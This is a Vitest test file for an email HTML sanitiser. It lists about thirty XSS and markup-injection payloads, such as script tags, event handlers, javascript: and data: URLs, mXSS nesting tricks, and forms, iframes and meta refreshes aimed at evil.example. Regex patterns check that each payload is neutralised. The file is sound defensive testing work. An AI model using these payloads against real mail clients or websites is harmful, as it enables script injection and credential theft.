import { describe, expect, it } from 'vitest';
import { htmlToText, sanitizeEmailHtml } from './sanitize-email-html.js';

// Hostile HTML as it arrives in mail: each must come out inert — nothing that runs script, loads
// from elsewhere unasked, or navigates to a script URL.
const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="  javascript:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<style>@import "//evil.example/x.css"; body{background:url(//evil.example/t.gif)}</style>',
  '<iframe src="//evil.example"></iframe>',
  '<object data="//evil.example/x.swf"></object><embed src="//evil.example/x.swf">',
  '<form action="//evil.example"><input name=password></form>',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<p <script>alert(1)</script>>broken</p>',
  '<<script>script>alert(1)<</script>/script>',
  '<img """><script>alert(1)</script>">',
  '<a href="https://ok.example" onclick="alert(1)" onmouseover="alert(1)">ok</a>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
];

const dangerous = [
  /<script/i,
  /\son\w+\s*=/i,
  /javascript:/i,
  /vbscript:/i,
  /data:/i,
  /<(iframe|object|embed|form|input|meta|base|link|style|svg|math|video|source|details|template)\b/i,
  /style\s*=/i,
  /expression\s*\(/i,
  /\ssrc\s*=\s*["']?(https?:)?\/\//i,
];

describe('sanitizeEmailHtml', () => {
  it.each(hostile)('renders inert: %s', (html) => {
    const clean = sanitizeEmailHtml(html);
    for (const pattern of dangerous) expect(clean, `${pattern} in ${clean}`).not.toMatch(pattern);
  });

  it('keeps the ordinary formatting of a mail and makes links safe to follow', () => {
    const clean = sanitizeEmailHtml(
      '<p>Hello <b>Ann</b>,</p><table><tr><td colspan="2">Order</td></tr></table><a href="https://shop.example/o/1">your order</a>',
    );
    expect(clean).toContain('<p>Hello <b>Ann</b>,</p>');
    expect(clean).toContain('<td colspan="2">Order</td>');
    expect(clean).toContain('href="https://shop.example/o/1"');
    expect(clean).toContain('rel="noopener noreferrer nofollow"');
  });

  it("holds remote images back until asked for, and keeps the mail's own (cid:) images", () => {
    expect(sanitizeEmailHtml('<img src="https://tracker.example/open.gif?u=1" alt="logo">')).toBe(
      '<img alt="logo" data-remote-src="https://tracker.example/open.gif?u=1" />',
    );
    expect(sanitizeEmailHtml('<img src="cid:logo@acme">')).toBe('<img src="cid:logo@acme" />');
    // A sender cannot plant a remote address in the held-back attribute itself.
    expect(sanitizeEmailHtml('<img data-remote-src="javascript:alert(1)">')).toBe('<img />');
  });
});

describe('htmlToText', () => {
  it('keeps the words and the line breaks, and drops scripts and styles with their content', () => {
    expect(
      htmlToText(
        '<style>p{color:red}</style><p>Hello&nbsp;Ann,</p><p>Fish &amp; chips<br>x &lt; y &#8364;5</p><script>evil()</script>',
      ),
    ).toBe('Hello Ann,\nFish & chips\nx < y €5');
  });
});
